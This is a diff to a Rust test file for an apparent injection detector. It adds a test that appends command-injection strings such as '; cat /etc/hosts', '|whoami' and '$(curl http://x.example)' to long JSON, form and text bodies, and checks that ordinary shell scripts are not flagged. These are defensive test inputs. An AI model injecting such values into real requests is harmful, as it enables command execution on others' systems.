@@ -207,3 +207,21 @@ fn comments_and_sections_do_not_cut_a_text_of_xml() {
     check("text/xml", b"<a b=\"<svg onload='alert(1)'>\"/>", true);
     check("text/xml", b"<a><!-- it's -->it's <![CDATA[Tom & Jerry's]]> <b c=\"it's\" d='1'/>or 1</a>", false);
 }
+
+#[test]
+fn commands_are_found_in_long_texts_and_scripts_pass() {
+    let words = "the quick brown fox jumps over the lazy dog and goes home ".repeat(9);
+    for padding in ["a".repeat(500), words.clone(), format!("{words}\n{words}\n{words}\n{words}\nx")] {
+        for attack in ["; cat /etc/hosts", "|whoami", "$(curl http://x.example)", "&& ping -c 3 10.0.0.1"] {
+            let text = format!("{padding}{attack}");
+            check("application/json", format!("{{\"a\":\"{}\"}}", text.replace('\n', "\\n")).as_bytes(), true);
+            check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &text).as_bytes(), true);
+            check("text/plain", text.as_bytes(), true);
+        }
+    }
+    let script = "#!/bin/sh\ncat list.txt | sort -u | wc -l\nif test -f a; then rm -f a; fi\n    ls -l | grep x\n$ ps aux | grep y\n";
+    let page =
+        format!("Call the script below.\n{script}\nUse `grep -r foo` to find it; then `ls -l`, and {words}.\n{words}");
+    check("text/plain", page.as_bytes(), false);
+    check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &page).as_bytes(), false);
+}
